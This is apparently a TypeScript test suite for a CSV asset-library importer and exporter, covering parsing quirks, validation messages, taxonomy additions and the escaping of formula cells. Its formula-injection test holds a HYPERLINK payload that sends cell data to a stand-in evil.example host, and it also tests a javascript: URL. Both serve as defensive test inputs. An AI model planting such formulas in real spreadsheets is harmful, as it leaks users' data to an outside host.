import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Taxonomy } from '../model';
import { assetIdForUrl, assetsToCsv, readAssetsCsv, slugify } from './csv';
import { decodeText } from './decode';
import { checkPack } from './pack';

const taxonomy: Taxonomy = {
  personas: [
    { id: 'finance-leader', label: 'Finance leader', aliases: ['CFO'] },
    { id: 'it-leader', label: 'IT leader', aliases: [] },
  ],
  industries: [{ id: 'healthcare', label: 'Healthcare', aliases: [] }],
  painPoints: [
    { id: 'manual-processes', label: 'Manual processes', aliases: [] },
    { id: 'slow-approvals', label: 'Slow approvals', aliases: [] },
  ],
};

const HEADER = 'title,url,type,description,personas,industries,painPoints,stage,publishedAt,expiresAt,tags,id';

describe('readAssetsCsv', () => {
  it('reads every quirk a spreadsheet export has', () => {
    const csv =
      '\ufeff' +
      [
        'Title, URL ,Type,Description,Personas,Industries,Pain Points,stage,published_at,expiresAt,tags,ID',
        '"Mercy Regional, a case study",https://example.com/a,Case Study,"Line one\nline two ""quoted""",FINANCE-LEADER; it leader,healthcare,Manual Processes;slow-approvals,Decision,2025-03-01,,ap; AP ;close,',
        '',
        '  Blog with spaces  , https://example.com/b ,blog,,,,,,,,,b-1',
        `'=Formula looking title,https://example.com/c,white paper,"'+1 555 0100",,,,tofu,,2027-01-31,,`,
      ].join('\r\n') +
      '\r\n';
    const r = readAssetsCsv(csv, { file: 'assets.csv', taxonomy });
    expect(r.errors).toEqual([]);
    expect(r.warnings).toEqual([]);
    expect(r.rows.map((x) => x.row)).toEqual([2, 4, 5]);
    const [a, b, c] = r.rows.map((x) => x.asset!);
    expect(a).toEqual({
      id: assetIdForUrl('https://example.com/a'),
      title: 'Mercy Regional, a case study',
      url: 'https://example.com/a',
      type: 'case-study',
      description: 'Line one\nline two "quoted"',
      personas: ['finance-leader', 'it-leader'],
      industries: ['healthcare'],
      painPoints: ['manual-processes', 'slow-approvals'],
      stage: 'decision',
      publishedAt: '2025-03-01',
      tags: ['ap', 'close'],
    });
    expect(b).toMatchObject({ id: 'b-1', title: 'Blog with spaces', url: 'https://example.com/b', type: 'blog-post' });
    expect(c).toMatchObject({ title: '=Formula looking title', type: 'whitepaper', description: '+1 555 0100', stage: 'awareness', expiresAt: '2027-01-31' });
  });

  it('gives a row without an id the same id on every import', () => {
    const csv = `title,url\nA,https://example.com/same\n`;
    const first = readAssetsCsv(csv).rows[0]?.asset?.id;
    expect(first).toBe(readAssetsCsv(csv).rows[0]?.asset?.id);
    expect(first).toMatch(/^a-[0-9a-z]{7}$/);
  });

  it('names the row and field of each broken row, and accepts none of the file', () => {
    const csv = [
      HEADER,
      'Good,https://example.com/1,video,,,,,,,,,',
      'Bad link,javascript:alert(1),video,,,,,,,,,',
      ',https://example.com/3,video,,,,,,,,,',
      'Bad type,https://example.com/4,podcast,,,,,,,,,',
      'Bad persona,https://example.com/5,video,,CEO,,,,,,,',
      'Bad date,https://example.com/6,video,,,,,,2025-13-01,,,',
      'Too many,https://example.com/7,video,,,,,,,,,,oops',
      'Dup,https://example.com/8,video,,,,,,,,,dup',
      'Dup again,https://example.com/9,video,,,,,,,,,dup',
      'Relative,/blog/post,video,,,,,,,,,',
    ].join('\n');
    const r = readAssetsCsv(csv, { file: 'assets.csv', taxonomy });
    const byRow = (row: number) => r.errors.filter((e) => e.where === `row ${row}`);
    expect(byRow(2)).toEqual([]);
    expect(byRow(3)).toEqual([
      { file: 'assets.csv', where: 'row 3', field: 'url', message: expect.stringMatching(/javascript: URLs are not allowed/) },
    ]);
    expect(byRow(4)).toEqual([expect.objectContaining({ field: 'title', message: 'the title is required' })]);
    expect(byRow(5)).toEqual([expect.objectContaining({ field: 'type', message: expect.stringMatching(/unknown type "podcast"/) })]);
    expect(byRow(6)).toEqual([expect.objectContaining({ field: 'personas', message: expect.stringMatching(/"CEO" names no persona/) })]);
    expect(byRow(7)).toEqual([expect.objectContaining({ field: 'publishedAt', message: expect.stringMatching(/YYYY-MM-DD/) })]);
    expect(byRow(8)[0]?.message).toMatch(/13 cells but the header has 12/);
    expect(byRow(10)).toEqual([expect.objectContaining({ field: 'id', message: 'duplicate id "dup" (also row 9)' })]);
    expect(byRow(11)[0]?.message).toMatch(/not an absolute URL/);
    expect(r.rows.find((x) => x.row === 2)?.asset).toBeDefined();
  });

  it('adds unknown taxonomy values when asked, once each', () => {
    const csv = `title,url,personas,industries\nA,https://e.example/a,Chief Executive; CFO,Health Care\nB,https://e.example/b,chief executive,health care\n`;
    const r = readAssetsCsv(csv, { taxonomy, addTaxonomy: true });
    expect(r.errors).toEqual([]);
    expect(r.added.personas).toEqual([
      { id: 'chief-executive', label: 'Chief Executive', aliases: [] },
      { id: 'cfo', label: 'CFO', aliases: [] },
    ]);
    expect(r.added.industries).toEqual([{ id: 'health-care', label: 'Health Care', aliases: [] }]);
    expect(r.rows[1]?.asset?.personas).toEqual(['chief-executive']);
  });

  it('adds the names of accepted rows only: a rejected row makes no entry, is listed under none, and warns of none', () => {
    const csv = [
      'title,url,type,personas,painPoints,publishedAt,id',
      'Good,https://e.example/a,video,Fleet planner,,,a1',
      'Bad URL,ftp://e.example/b,video,Astronaut,,,b1',
      'Bad date,https://e.example/c,video,Fleet planner,Slow approval,2025-02-30,c1',
      'Same id,https://e.example/d,video,Ops director,,,a1',
      'Also good,https://e.example/e,video,fleet planner;Chief Executive,,,e1',
    ].join('\n');
    const r = readAssetsCsv(csv, { file: 'a.csv', taxonomy, addTaxonomy: true });
    expect(r.rows.filter((row) => row.asset).map((row) => row.row)).toEqual([2, 6]);
    expect(r.errors.map((e) => e.where)).toEqual(['row 3', 'row 4', 'row 5']);
    expect(r.added).toEqual({
      personas: [
        { id: 'fleet-planner', label: 'Fleet planner', aliases: [] },
        { id: 'chief-executive', label: 'Chief Executive', aliases: [] },
      ],
      industries: [],
      painPoints: [],
    });
    expect(r.taxonomy.personas.map((e) => e.id)).toEqual(['finance-leader', 'it-leader', 'fleet-planner', 'chief-executive']);
    expect(r.taxonomy.painPoints).toEqual(taxonomy.painPoints);
    expect(r.additions.map((a) => [a.entry.label, a.rows])).toEqual([
      ['Fleet planner', [2, 6]],
      ['Chief Executive', [6]],
    ]);
    // "Slow approval" looks like "Slow approvals", but only a rejected row named it: nothing was added to warn of.
    expect(r.warnings).toEqual([]);
  });

  it('gives a name a rejected row used first the id it would have had: no "-2" for an entry that was never made', () => {
    const r = readAssetsCsv('title,url,personas\nBad,ftp://e.example/a,Chief Executive\nGood,https://e.example/b,Chief executive!\n', { addTaxonomy: true });
    expect(r.added.personas).toEqual([{ id: 'chief-executive', label: 'Chief executive!', aliases: [] }]);
  });

  it('reports an empty URL once, as missing (not also as not absolute, nor its derived id as missing)', () => {
    for (const cell of ['', '   ']) {
      expect(readAssetsCsv(`title,url\nNo link,${cell}\n`, { file: 'a.csv' }).errors).toEqual([
        { file: 'a.csv', where: 'row 2', field: 'url', message: 'the URL is required' },
      ]);
    }
    expect(readAssetsCsv('title,url,id\nNo link,,\n').errors.map((e) => e.field)).toEqual(['url']);
  });

  it('explains a semicolon-separated file whose header names no column, an unclosed quote and a missing url column', () => {
    expect(readAssetsCsv('Name;Link\nA;https://e.example/\n').errors[0]?.message).toMatch(/semicolon-separated, and its header names none of the columns/);
    const unclosed = readAssetsCsv('title,url\n"A,https://e.example/\n');
    expect(unclosed.errors[0]).toMatchObject({ where: 'row 2', message: expect.stringMatching(/never closed/) });
    expect(readAssetsCsv('title,link\nA,https://e.example/\n').errors[0]).toMatchObject({ where: 'row 1', field: 'url' });
    expect(readAssetsCsv('').errors[0]?.message).toMatch(/empty/);
    expect(readAssetsCsv('title,url\n').errors[0]?.message).toMatch(/no asset rows/);
  });

  it('warns about unknown columns, repeated URLs and mis-decoded characters', () => {
    const r = readAssetsCsv('title,url,owner\nA,https://e.example/,me\nB,https://e.example/,me\nC\ufffd,https://e.example/c,\n');
    expect(r.errors).toEqual([]);
    expect(r.warnings.map((w) => `${w.where}: ${w.message}`)).toEqual([
      'file: some characters could not be read: save the file as "CSV UTF-8" so accents and symbols survive',
      'row 1: unknown column "owner" is ignored',
      'row 3: the same URL as row 2',
    ]);
  });

  it('exports formula-safe CSV that reads back to the same assets', () => {
    const csv = `title,url,type,description,personas,tags\n"=HYPERLINK(""x"")",https://e.example/a,video,"-50% cost, fast",finance leader,@mention;+plus\n`;
    const first = readAssetsCsv(csv, { taxonomy });
    const assets = first.rows.map((x) => x.asset!);
    const exported = assetsToCsv(assets);
    expect(exported.split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""x"")",https://e.example/a,video,"'-50% cost, fast",finance-leader,,,,,,"'@mention;+plus",${assets[0]!.id}`,
    );
    const again = readAssetsCsv(exported, { taxonomy });
    expect(again.rows.map((x) => x.asset)).toEqual(assets);
  });

  it('neutralises a formula cell by its first character even when a line break follows', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")\nsecond line';
    const asset = { id: 'x1', title: '@SUM(1)\r\nmore', url: 'https://e.example/x', type: 'other' as const, description: evil, personas: [], industries: [], painPoints: [], tags: ['-1\nx'] };
    const exported = assetsToCsv([asset]);
    const [, row] = Papa.parse<string[]>(exported.trim()).data;
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(row![3]).toBe(`'${evil}`);
    expect(row![0]).toBe(`'@SUM(1)\r\nmore`);
    expect(readAssetsCsv(exported).rows[0]?.asset).toMatchObject({ title: '@SUM(1)\r\nmore', description: evil });
  });

  it('applies the pack limits to each row, naming the row, and refuses more rows than a library holds', () => {
    const rows = [
      'title,url,description,tags',
      'Fine,https://e.example/1,,',
      `Long,https://e.example/2,${'d'.repeat(5001)},`,
      `Tags,https://e.example/3,,${Array.from({ length: 51 }, (_, i) => `t${i}`).join(';')}`,
      'Creds,https://user:pw@e.example/4,,',
      'Also fine,https://e.example/5,,',
      `Url,https://e.example/${'u'.repeat(2048)},,`,
    ];
    const r = readAssetsCsv(`${rows.join('\n')}\n`, { file: 'a.csv' });
    expect(r.errors.map((e) => `${e.where} ${e.field}: ${e.message}`)).toEqual([
      'row 3 description: the description is 5,001 characters; the limit is 5,000',
      'row 4 tags: tags has 51 values; the limit is 50',
      'row 5 url: the URL carries a user name or password: remove them (a link is shared with every prospect it is sent to)',
      'row 7 url: the URL is 2,066 characters; the limit is 2,048',
    ]);
    const many = `title,url\n${'A,https://e.example/a\n'.repeat(100_001)}`;
    expect(readAssetsCsv(many, { file: 'many.csv' }).errors).toEqual([
      { file: 'many.csv', where: 'file', message: 'the file has 100,001 rows; a library holds up to 100,000 assets' },
    ]);
  });

  it('matches taxonomy names through invisible characters, and shows them when nothing matches', () => {
    const csv = 'title,url,personas\n\u200bA\u200b,https://e.example/a,Finance\u200b leader\nB,https://e.example/b,Chief\u200bAstronaut\n\u200b\u200b,https://e.example/c,\n';
    const r = readAssetsCsv(csv, { file: 'a.csv', taxonomy });
    expect(r.rows[0]?.asset).toMatchObject({ title: 'A', personas: ['finance-leader'] });
    expect(r.errors.map((e) => `${e.where} ${e.field}: ${e.message}`)).toEqual([
      expect.stringMatching(/^row 3 personas: "Chief<U\+200B>Astronaut" names no persona/),
      'row 4 title: the title is required',
    ]);
    const added = readAssetsCsv('title,url,personas\nA,https://e.example/a,\u200b;\u200eNew role\u200f\n', { taxonomy, addTaxonomy: true });
    expect(added.added.personas).toEqual([{ id: 'new-role', label: 'New role', aliases: [] }]);
  });

  it('round-trips text that starts with an apostrophe before a formula character, or is itself in quotes', () => {
    const base = { url: 'https://e.example/q', type: 'other' as const, personas: [], industries: [], painPoints: [], tags: [] };
    const assets = [
      { ...base, id: 'q1', title: "'+1 is text already", description: "''=x" },
      { ...base, id: 'q2', url: 'https://e.example/r', title: '"Hello"', description: '""' },
    ];
    const back = readAssetsCsv(assetsToCsv(assets));
    expect(back.errors).toEqual([]);
    expect(back.rows.map((r) => r.asset)).toEqual(assets);
    expect(readAssetsCsv('title,url\n  "spaced, not quoted",https://e.example/s\n').rows[0]?.asset?.title).toBeUndefined();
    expect(readAssetsCsv('title,url\n  "Spaced",https://e.example/s\n').rows[0]?.asset?.title).toBe('Spaced');
  });

  it('imports into a pack that validates', () => {
    const r = readAssetsCsv(`title,url,personas\nA,https://e.example/a,Finance leader\n`, { taxonomy });
    const pack = { format: 'tailor-library', version: 1, taxonomy: r.taxonomy, assets: r.rows.map((x) => x.asset) };
    expect(checkPack(pack).ok).toBe(true);
  });
});

describe('slugify', () => {
  it('makes taxonomy ids from labels', () => {
    expect(slugify('Health Care')).toBe('health-care');
    expect(slugify('R&D')).toBe('r-and-d');
    expect(slugify('Café Owners')).toBe('cafe-owners');
  });
});

describe('files that are not UTF-8', () => {
  it('warns once, at file level, when the file was read as Windows-1252', () => {
    const r = readAssetsCsv('title,url\nFallstudie Müller GmbH,https://e.example/m\n', { file: 'a.csv', encoding: 'windows-1252' });
    expect(r.errors).toEqual([]);
    expect(r.rows[0]?.asset?.title).toBe('Fallstudie Müller GmbH');
    expect(r.warnings).toEqual([
      {
        file: 'a.csv',
        where: 'file',
        message:
          'this file is not UTF-8; it was read as Windows-1252, as Excel\'s "CSV (Comma delimited)" saves it: check accented letters, or save it as "CSV UTF-8"',
      },
    ]);
    expect(readAssetsCsv('title,url\nMüller,https://e.example/m\n', { encoding: 'utf-8' }).warnings).toEqual([]);
  });

  it('reads a UTF-16 file without a byte-order mark as it was decoded (decodeText); text with zero characters is binary', () => {
    const decoded = decodeText(new Uint8Array(Buffer.from('title,url\nÉtude,https://e.example/a\n', 'utf16le')));
    const r = readAssetsCsv(decoded.text, { file: 'a.csv', encoding: decoded.encoding });
    expect(r.errors).toEqual([]);
    expect(r.warnings).toEqual([]);
    expect(r.rows[0]?.asset?.title).toBe('Étude');
    expect(readAssetsCsv('title,url\nA\u0000\u0001\u0002\u0003,https://e.example/a\n').errors[0]?.message).toBe('this is a binary file, not CSV text');
  });
});

describe('files separated by semicolons or tabs (Excel in other settings, "Unicode Text")', () => {
  const taxonomy = {
    personas: [{ id: 'finance', label: 'Finance leader', aliases: [] }, { id: 'ops', label: 'Operations manager', aliases: [] }],
    industries: [],
    painPoints: [],
  };

  it('reads a ";"-separated file whose header names the columns, lists still ";"-separated in quoted cells, with one warning', () => {
    const csv = '\ufefftitle;url;personas;description;Kosten (EUR)\r\nLeitfaden;https://e.example/l;"Finance leader;Operations manager";"Planung; 5 Schritte";1.250,00\r\n';
    const r = readAssetsCsv(csv, { file: 'de.csv', taxonomy });
    expect(r.errors).toEqual([]);
    expect(r.rows[0]?.asset).toMatchObject({ title: 'Leitfaden', url: 'https://e.example/l', personas: ['finance', 'ops'], description: 'Planung; 5 Schritte' });
    expect(r.warnings.filter((w) => w.where === 'file')).toEqual([
      {
        file: 'de.csv',
        where: 'file',
        message:
          'this file is semicolon-separated (as Excel saves "CSV" where the decimal mark is a comma): it was read with ";" between cells; a list in a cell is still separated by ";", in double quotes',
      },
    ]);
    expect(readAssetsCsv('title;url\nA;https://e.example/a;extra\n').errors[0]?.message).toMatch(/a cell with a semicolon must be in double quotes/);
  });

  it('reads a tab-separated file the same way', () => {
    const r = readAssetsCsv('title\turl\ttags\nA, the guide\thttps://e.example/a\tx;y\n', { file: 'a.txt' });
    expect(r.errors).toEqual([]);
    expect(r.rows[0]?.asset).toMatchObject({ title: 'A, the guide', tags: ['x', 'y'] });
    expect(r.warnings).toEqual([{ file: 'a.txt', where: 'file', message: 'this file is tab-separated (as Excel saves "Unicode Text"): it was read with tabs between cells' }]);
  });

  it('keeps a comma-separated file as it was, whatever its cells hold', () => {
    const r = readAssetsCsv('title,url,tags\n"A;b\tc",https://e.example/a,x;y\n');
    expect(r.warnings).toEqual([]);
    expect(r.rows[0]?.asset).toMatchObject({ title: 'A;b\tc', tags: ['x', 'y'] });
  });
});

describe('lists separated by "," or "|"', () => {
  const taxonomy = {
    personas: [{ id: 'ops', label: 'Operations manager', aliases: [] }, { id: 'it', label: 'IT leader', aliases: [] }],
    industries: [{ id: 'logistics', label: 'Logistics', aliases: [] }, { id: 'retail', label: 'Retail', aliases: [] }, { id: 'mfg', label: 'Manufacturing', aliases: [] }],
    painPoints: [],
  };

  it('says a taxonomy cell whose parts each name an entry is a list, and that lists are separated by ";"', () => {
    const r = readAssetsCsv('title,url,personas,industries\nA,https://e.example/a,"Operations manager,IT leader","Logistics | Retail, Manufacturing"\n', { file: 'a.csv', taxonomy });
    expect(r.errors).toEqual([
      { file: 'a.csv', where: 'row 2', field: 'personas', message: '"Operations manager,IT leader" names no persona; its parts "Operations manager" and "IT leader" do: lists are separated by ";"' },
      { file: 'a.csv', where: 'row 2', field: 'industries', message: '"Logistics | Retail, Manufacturing" names no industry; its parts "Logistics", "Retail" and "Manufacturing" do: lists are separated by ";"' },
    ]);
    // A part that names nothing: the usual message.
    expect(readAssetsCsv('title,url,personas\nA,https://e.example/a,"Operations manager,Astronaut"\n', { taxonomy }).errors[0]?.message).toMatch(/in the taxonomy \(by id or label\)/);
  });

  it('never adds such a list as an entry of its own, even when its parts are names the file adds', () => {
    const base = readAssetsCsv('title,url,personas\nA,https://e.example/a,"Operations manager,IT leader"\n', { taxonomy, addTaxonomy: true });
    expect(base.errors.map((e) => e.message)).toEqual([expect.stringMatching(/its parts "Operations manager" and "IT leader" do: lists are separated by ";"/)]);
    expect(base.additions).toEqual([]);
    const fresh = readAssetsCsv('title,url,personas\nA,https://e.example/a,"Buyer, Founder"\nB,https://e.example/b,Buyer\nC,https://e.example/c,Founder\n', { addTaxonomy: true });
    expect(fresh.errors).toEqual([expect.objectContaining({ where: 'row 2', field: 'personas' })]);
    expect(fresh.taxonomy.personas.map((p) => p.label)).toEqual(['Buyer', 'Founder']);
    // A name with a comma that is not a list of names is added as it is.
    expect(readAssetsCsv('title,url,personas\nA,https://e.example/a,"Research, development"\n', { addTaxonomy: true }).taxonomy.personas.map((p) => p.label)).toEqual(['Research, development']);
  });

  it('warns of a tag with "," or "|" between words, and keeps it as one tag', () => {
    const r = readAssetsCsv('title,url,tags\nA,https://e.example/a,"peak, retail;automation | warehouse;1,000 leads"\n', { file: 'a.csv' });
    expect(r.errors).toEqual([]);
    expect(r.rows[0]?.asset?.tags).toEqual(['peak, retail', 'automation | warehouse', '1,000 leads']);
    expect(r.warnings).toEqual([
      { file: 'a.csv', where: 'row 2', field: 'tags', message: '"peak, retail" is one tag: lists are separated by ";" (peak;retail)' },
      { file: 'a.csv', where: 'row 2', field: 'tags', message: '"automation | warehouse" is one tag: lists are separated by ";" (automation;warehouse)' },
    ]);
  });
});

describe('headers in other words', () => {
  it('says which header may be a missing required column, and never maps it silently', () => {
    const r = readAssetsCsv('Asset name,Link,Audience,Owner\nA,https://e.example/a,CFO,me\n', { file: 'notion.csv' });
    expect(r.rows).toEqual([]);
    expect(r.errors).toEqual([
      { file: 'notion.csv', where: 'row 1', field: 'title', message: 'no "title" column; "Asset name" may be it: rename that header title' },
      { file: 'notion.csv', where: 'row 1', field: 'url', message: 'no "url" column; "Link" may be it: rename that header url' },
    ]);
    expect(r.warnings.map((w) => w.message)).toEqual([
      'unknown column "Asset name" is ignored; if it holds title, rename that header title',
      'unknown column "Link" is ignored; if it holds url, rename that header url',
      'unknown column "Audience" is ignored; if it holds personas, rename that header personas',
      'unknown column "Owner" is ignored',
    ]);
  });

  it('names no lookalike of a column the header already has, and keeps the old message when none looks like it', () => {
    const r = readAssetsCsv('title,url,personas,Audience,Funnel stage\nA,https://e.example/a,,x,TOFU\n');
    expect(r.errors).toEqual([]);
    expect(r.rows[0]?.asset?.stage).toBeUndefined();
    expect(r.warnings.map((w) => w.message)).toEqual(['unknown column "Audience" is ignored', 'unknown column "Funnel stage" is ignored; if it holds stage, rename that header stage']);
    expect(readAssetsCsv('title,Owner\nA,me\n').errors[0]?.message).toBe('the header has no "url" column; expected columns: title,url,type,description,personas,industries,painPoints,stage,publishedAt,expiresAt,tags,id');
  });
});

describe('dates written as spreadsheets in other settings write them', () => {
  const said = (value: string) => `must be a date written YYYY-MM-DD (for example 2025-03-01), not "${value}"`;

  it('keeps them errors, giving the ISO form where there is no doubt', () => {
    const r = readAssetsCsv('title,url,publishedAt,expiresAt\nA,https://e.example/a,15.01.2026,15/01/2026\nB,https://e.example/b,01/02/2026,01/15/2026\nC,https://e.example/c,31.02.2026,January 5 2026\n', { file: 'a.csv' });
    expect(r.rows.every((row) => !row.asset)).toBe(true);
    expect(r.errors.map((e) => [e.where, e.field, e.message])).toEqual([
      ['row 2', 'publishedAt', `${said('15.01.2026')}: write 2026-01-15`],
      ['row 2', 'expiresAt', `${said('15/01/2026')}: write 2026-01-15`],
      ['row 3', 'publishedAt', said('01/02/2026')],
      ['row 3', 'expiresAt', `${said('01/15/2026')}: write 2026-01-15`],
      ['row 4', 'publishedAt', said('31.02.2026')],
      ['row 4', 'expiresAt', said('January 5 2026')],
    ]);
    // Mixed forms in each column: no file-level summary.
    expect(r.warnings).toEqual([]);
  });

  it('says once more, at file level with the count, when every date error of a column has the same form', () => {
    const dots = readAssetsCsv('title,url,publishedAt\nA,https://e.example/a,15.01.2026\nB,https://e.example/b,01.02.2026\nC,https://e.example/c,2026-03-01\n', { file: 'de.csv' });
    expect(dots.warnings).toEqual([
      { file: 'de.csv', where: 'file', field: 'publishedAt', message: 'all 2 publishedAt dates that are not YYYY-MM-DD are written day.month.year (15.01.2026): write them YYYY-MM-DD (2026-01-15)' },
    ]);
    expect(dots.rows[2]?.asset?.publishedAt).toBe('2026-03-01');
    // Slashes: day first when some first number is over 12, though 01/02/2026 alone could be either.
    const slashes = readAssetsCsv('title,url,publishedAt\nA,https://e.example/a,01/02/2026\nB,https://e.example/b,20/05/2026\n', { file: 'fr.csv' });
    expect(slashes.warnings.map((w) => w.message)).toEqual(['all 2 publishedAt dates that are not YYYY-MM-DD are written day/month/year (20/05/2026): write them YYYY-MM-DD (2026-05-20)']);
    const either = readAssetsCsv('title,url,publishedAt\nA,https://e.example/a,01/02/2026\nB,https://e.example/b,03/04/2026\n');
    expect(either.warnings).toEqual([]);
  });
});

